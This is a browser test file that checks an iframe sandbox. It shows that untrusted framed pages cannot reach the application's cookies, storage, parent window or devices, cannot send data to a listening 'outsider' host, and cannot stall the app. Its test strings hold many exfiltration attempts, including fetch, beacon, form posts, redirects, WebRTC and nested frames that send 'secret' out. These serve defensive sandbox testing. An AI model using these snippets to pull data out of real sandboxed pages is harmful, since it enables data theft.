import { describe, expect } from 'vitest';
import { eavesdrop, type Eavesdropper } from '../fixtures/eavesdropper.ts';
import { FramedPage } from '../fixtures/framed-page.ts';
import { test as base } from '../fixtures/story.ts';

const test = base
  .extend('outsider', async ({}, { onCleanup }): Promise<Eavesdropper> => {
    const outsider = await eavesdrop();
    onCleanup(() => outsider.close());
    return outsider;
  })
  .extend('framed', async ({ story }): Promise<FramedPage> => {
    // The browser says of everything here that it was refused.
    story.expectComplaints(/./);
    return FramedPage.open(story);
  });

/** What a page says when it has done all it can. */
const DONE = 'console.log("tried")';
/** Runs after whatever the page has begun before, and after what that began. */
const LATER = 'await new Promise((done) => setTimeout(done, 500));';

describe('a page in the frame', () => {
  test('[PRV-9] has no way into the application: no cookies, storage, windows, workers, devices', async ({
    framed,
  }) => {
    const { page } = framed.person;
    await page.evaluate(() => localStorage.setItem('secret', 'of the application'));
    const found = await framed.outcomes({
      origin: 'return origin',
      cookie: 'return document.cookie',
      storage: "localStorage.setItem('a', '1'); return [localStorage.length, localStorage.getItem('secret')]",
      database:
        "return new Promise((yes, no) => { const it = indexedDB.open('x'); it.onsuccess = () => yes('open'); it.onerror = () => no(it.error) })",
      caches: "return caches.open('x')",
      parentDocument: 'return parent.document.title',
      parentAddress: 'return parent.location.href',
      parentGoes: "parent.location = 'about:blank'; return 'went'",
      topGoes: "top.location.href = 'about:blank'; return 'went'",
      window: "return window.open('about:blank')",
      opener: 'return opener',
      serviceWorker: "return navigator.serviceWorker.register('/frame')",
      camera: 'return navigator.mediaDevices.getUserMedia({ video: true })',
      screen: 'return navigator.mediaDevices.getDisplayMedia()',
      position:
        "return new Promise((yes) => navigator.geolocation.getCurrentPosition(() => yes('found'), ({ code }) => yes('refused ' + code)))",
      notification: 'return Notification.requestPermission()',
      clipboard: 'return navigator.clipboard.readText()',
    });
    expect(found).toEqual({
      origin: 'null',
      cookie: 'SecurityError',
      storage: '1,',
      database: 'SecurityError',
      caches: 'SecurityError',
      parentDocument: 'SecurityError',
      parentAddress: 'SecurityError',
      parentGoes: 'SecurityError',
      topGoes: 'SecurityError',
      window: 'null',
      opener: 'null',
      serviceWorker: 'SecurityError',
      camera: expect.stringMatching(/^(?:SecurityError|NotAllowedError)$/),
      screen: expect.stringMatching(/^(?:SecurityError|NotAllowedError|InvalidStateError)$/),
      position: 'refused 1',
      notification: 'denied',
      clipboard: 'NotAllowedError',
    });
    expect(page.context().pages()).toHaveLength(1);
    expect(new URL(page.url()).pathname).toBe('/');
    expect(await page.evaluate(() => localStorage.getItem('a'))).toBeNull();
  });

  test('[PRV-9] reaches no network, by whatever it tries', async ({ framed, outsider }) => {
    const { host, datagramPort, arrivals } = outsider;
    const url = `http://${host}`;
    const element = (tag: string, set: string) =>
      `return new Promise((yes) => { const it = document.createElement('${tag}'); it.onload = () => yes('loaded'); it.onerror = () => yes('refused'); ${set}; document.head.append(it) })`;
    const found = await framed.outcomes({
      fetch: `return (await fetch('${url}/fetch?secret')).status`,
      blind: `return (await fetch('${url}/blind', { mode: 'no-cors', method: 'POST', body: 'secret' })).type`,
      application: `return (await fetch('${framed.person.page.url()}api/session')).status`,
      request: `return new Promise((yes) => { const it = new XMLHttpRequest(); it.onload = () => yes('loaded'); it.onerror = () => yes('refused'); it.open('GET', '${url}/xhr'); it.send() })`,
      image: element('img', `it.src = '${url}/image'`),
      sheet: element('link', `it.rel = 'stylesheet'; it.href = '${url}/sheet'`),
      script: element('script', `it.src = '${url}/script'`),
      module: `return import('${url}/module')`,
      socket: `return new Promise((yes) => { const it = new WebSocket('ws://${host}/socket'); it.onopen = () => yes('open'); it.onerror = () => yes('refused') })`,
      events: `return new Promise((yes) => { const it = new EventSource('${url}/events'); it.onopen = () => yes('open'); it.onerror = () => yes('refused') })`,
      worker: `return new Promise((yes) => { const it = new Worker(URL.createObjectURL(new Blob(["fetch('${url}/worker').then(() => postMessage('reached'), () => postMessage('refused'))"]))); it.onmessage = ({ data }) => yes(data); it.onerror = () => yes('no worker') })`,
      calls: `const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${datagramPort}' }] }); it.createDataChannel('x'); await it.setLocalDescription(); return 'gathering'`,
      transport: `const it = new WebTransport('https://${host}/transport'); return it.ready`,
      beacon: `navigator.sendBeacon('${url}/beacon', 'secret'); return 'sent'`,
      picture: `document.body.style.backgroundImage = 'url(${url}/picture)'; return 'put'`,
      hints: `for (const rel of ['prefetch', 'preload', 'modulepreload', 'prerender', 'icon', 'manifest']) { const it = document.createElement('link'); Object.assign(it, { rel, as: 'script', href: '${url}/' + rel }); document.head.append(it) } return 'put'`,
      rules: `const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = JSON.stringify({ prefetch: [{ source: 'list', urls: ['${url}/rules'] }] }); document.head.append(it); return 'put'`,
      ping: `const it = document.createElement('a'); Object.assign(it, { href: '#x', ping: '${url}/ping' }); document.body.append(it); it.click(); ${LATER} return 'clicked'`,
    });
    expect(found).toEqual({
      fetch: 'TypeError',
      blind: 'TypeError',
      application: 'TypeError',
      request: 'refused',
      image: 'refused',
      sheet: 'refused',
      script: 'refused',
      module: 'TypeError',
      socket: 'refused',
      events: 'refused',
      worker: 'refused',
      calls: 'ReferenceError',
      transport: expect.stringMatching(/Error$/),
      beacon: 'sent',
      picture: 'put',
      hints: 'put',
      rules: 'put',
      ping: 'clicked',
    });
    expect(arrivals).toEqual([]);
  });

  test('[PRV-9] carries nothing out by going elsewhere, opening pages within, or sending forms', async ({
    framed,
    outsider,
  }) => {
    const { host, datagramPort, arrivals } = outsider;
    const url = `http://${host}`;
    const rtc = `const it = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.1:${datagramPort}' }] }); it.createDataChannel('x'); it.setLocalDescription()`;
    const nested = (script: string) =>
      `it.srcdoc = ${JSON.stringify(`<script>${script}</script><img src="${url}/nested-image">`).replaceAll('</', String.raw`<\/`)}`;
    const within = (set: string) =>
      `const it = document.createElement('iframe'); ${set}; document.body.append(it)`;
    const ways = {
      self: `location = '${url}/self?secret'`,
      replaced: `location.replace('${url}/replaced?secret')`,
      link: `const it = document.createElement('a'); it.href = '${url}/link'; it.addEventListener('click', (event) => event.stopImmediatePropagation()); document.body.append(it); it.click()`,
      form: `const it = document.createElement('form'); it.action = '${url}/form'; it.method = 'post'; document.body.append(it); it.submit()`,
      window: `open('${url}/window'); const it = document.createElement('a'); it.href = '${url}/blank'; it.target = '_blank'; document.body.append(it); it.click()`,
      download: `const it = document.createElement('a'); it.href = '${url}/download'; it.download = 'x'; document.body.append(it); it.click()`,
      within: within(`it.src = '${url}/within'`),
      written: within(nested(`fetch('${url}/written'); location = '${url}/written-self'`)),
      calls: within(nested(rtc)),
      hidden: `const host = document.createElement('div'); document.body.append(host); const root = host.attachShadow({ mode: 'closed' }); const it = document.createElement('iframe'); ${nested(rtc)}; root.append(it)`,
    };
    for (const [name, way] of Object.entries(ways)) {
      await framed.show(`<!doctype html><body><script>${DONE};setTimeout(() => { ${way} }, 20)</script>`);
      await framed.hears('tried');
      // Long enough for a request on this machine; the beat of the application goes on meanwhile.
      const before = await framed.ticks;
      await expect.poll(() => framed.ticks, { message: name }).toBeGreaterThan(before + 15);
    }
    await framed.show(
      `<!doctype html><meta http-equiv="refresh" content="0;url=${url}/refresh"><body><script>${DONE}</script>`,
    );
    await framed.hears('tried');
    const before = await framed.ticks;
    await expect.poll(() => framed.ticks).toBeGreaterThan(before + 15);
    expect(arrivals).toEqual([]);
  });

  test('[PRV-9] the outsider does hear what is not locked in', async ({ framed, outsider }) => {
    await framed.person.context.request.get(`http://${outsider.host}/control`);
    expect(outsider.arrivals).toEqual(['GET /control']);
  });

  test('[PRV-4] with the network allowed reaches addresses of HTTPS alone, and still nothing of the application', async ({
    framed,
    outsider,
  }) => {
    const page = (text: string) => `<!doctype html><body><script>${text}</script>`;
    await framed.show(
      page(
        `addEventListener('securitypolicyviolation', ({ blockedURI }) => console.log('refused ' + blockedURI));` +
          `fetch('https://127.0.0.1:1/far').catch(() => console.log('tried far')); fetch('http://${outsider.host}/near').catch(() => console.log('tried near'));` +
          `try { document.cookie } catch (error) { console.log(error.name) }`,
      ),
      'open',
    );
    await framed.hears('tried far');
    await framed.hears('tried near');
    const printed = await framed.printed();
    expect(printed).toContain('SecurityError');
    expect(printed.filter((text) => text.startsWith('refused'))).toEqual([
      `refused http://${outsider.host}/near`,
    ]);
    expect(outsider.arrivals).toEqual([]);
  });

  test('[PRV-11] that computes for seconds holds nothing up but itself', async ({ framed }) => {
    const rounds =
      'let rounds = 0; const end = performance.now() + 3000; while (performance.now() < end) rounds += 1';
    await framed.show(
      `<!doctype html><body><script>console.log('begun'); ${rounds}; console.log('ended')</script>`,
    );
    await framed.hears('begun');
    const before = await framed.ticks;
    // The application's own clock goes on while the page still computes.
    await expect.poll(() => framed.ticks).toBeGreaterThan(before + 10);
    expect(await framed.printed()).not.toContain('ended');
    await framed.hears('ended');
  });

  test('[PRV-11] that never ends is gone when its frame is, and the next one begins', async ({ framed }) => {
    await framed.show(`<!doctype html><body><script>console.log('begun'); for (;;);</script>`);
    await framed.hears('begun');
    await framed.show(`<!doctype html><body><script>console.log('mended')</script>`);
    await framed.hears('mended');
  });
});
